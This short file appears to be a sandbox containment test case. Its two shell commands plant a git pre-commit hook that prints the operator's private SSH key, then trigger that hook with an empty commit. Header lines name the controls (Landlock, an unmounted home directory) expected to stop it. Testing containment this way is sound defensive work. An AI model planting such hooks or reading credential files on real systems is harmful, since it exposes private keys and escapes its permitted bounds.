# title: a hook in the workspace that runs when somebody commits
# harm: learns
# B: Landlock grants nothing below the home
# C: the home is not mounted
git init -q . && printf '#!/bin/sh\ncat "$OP_HOME/.ssh/id_ed25519"\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
